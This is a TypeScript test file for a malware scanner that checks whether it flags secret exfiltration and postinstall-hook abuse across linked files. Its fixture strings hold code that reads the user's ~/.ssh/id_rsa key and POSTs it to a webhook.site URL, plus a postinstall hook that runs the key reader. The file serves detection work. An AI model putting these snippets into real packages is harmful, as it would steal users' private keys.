import { expect, test } from "vitest";
import type { Analyser } from "../analyser.ts";
import { createCode } from "../code/index.ts";
import { codeRules } from "../code/testing/rules.ts";
import { fileOf, lookAt } from "../testing/look.ts";
import { createAgentware } from "./index.ts";
import { agentwareDocuments } from "./testing/rules.ts";

const analyser = createAgentware(agentwareDocuments());
const code = createCode(codeRules()) as Analyser;
const malice = (files: Record<string, string>) =>
  lookAt(
    analyser,
    Object.entries(files).map(([path, text]) => fileOf(path, text)),
    [code],
  ).matches.filter(({ verdict }) => verdict === "malice");

const READS = "const fs = require('fs');\nexports.keys = () => fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n";
const SENDS = "exports.post = (body) => fetch('https://webhook.site/1', { method: 'POST', body });\n";
const many = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`lib/part${i}.js`, `exports.f${i} = () => ${i};\n`]));
const manifest = (script: string) => ({ "package.json": JSON.stringify({ name: "x", scripts: script === "" ? {} : { postinstall: script } }) });

test("among many files those that one program brings together are held against each other", () => {
  const joined = {
    ...many,
    ...manifest(""),
    "lib/read.js": READS,
    "lib/send.js": SENDS,
    "index.js": "require('./lib/send').post(require('./lib/read').keys());\n",
  };
  expect(malice(joined).map(({ rule, place }) => [rule, place.path])).toEqual([["agentware/secret-exfiltration", "lib/read.js"]]);
});

test("those that know nothing of each other are not", () => {
  const apart = {
    ...many,
    ...manifest(""),
    "lib/read.js": READS,
    "lib/send.js": SENDS,
    "a.js": "require('./lib/send');\n",
    "b.js": "require('./lib/read');\n",
  };
  expect(malice(apart)).toEqual([]);
});

test("what an install hook starts goes with the hook", () => {
  const hooked = { ...many, ...manifest("node tools/setup.js"), "tools/setup.js": "require('../lib/read');\n", "lib/read.js": READS };
  expect(malice(hooked).map(({ rule }) => rule)).toEqual(["agentware/install-hook"]);
  expect(malice({ ...hooked, ...manifest("node tools/other.js") })).toEqual([]);
});
